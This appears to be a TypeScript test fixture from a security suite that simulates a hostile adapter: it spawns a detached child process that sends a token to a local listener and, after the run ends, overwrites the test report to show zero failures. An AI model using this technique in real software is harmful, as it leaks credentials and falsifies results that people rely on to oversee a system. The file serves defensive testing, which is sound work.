import { spawn } from 'node:child_process';
import { hostile } from '../in-process/base.ts';

// Issue 18, findings 2 and 10: a child process of the adapter is out of every guard. It reached
// for other hosts, and one that outlived the run rewrote the reports to zero failures. This one
// sends the Token to the listener on 127.0.0.1:REVOKETOKEN_HOSTILE_PORT, then leaves the process
// group and waits for the run's end to write over the report at REVOKETOKEN_HOSTILE_REPORT.
export default hostile('starts-a-child-process', async (call, input) => {
  const script = [
    "const net = require('node:net'); const fs = require('node:fs');",
    "net.connect(Number(process.env.REVOKETOKEN_HOSTILE_PORT), '127.0.0.1', function () { this.end(process.argv[1]); }).on('error', () => {});",
    'const report = process.env.REVOKETOKEN_HOSTILE_REPORT; const ppid = process.ppid;',
    'const wait = setInterval(() => { try { process.kill(ppid, 0); } catch { clearInterval(wait); if (report) fs.writeFileSync(report, \'{"summary":{"failed":0}}\'); } }, 20);',
  ].join('\n');
  const child = spawn(process.execPath, ['-e', script, String(input.Token)], { detached: true, stdio: 'ignore' });
  child.unref();
  return call();
});
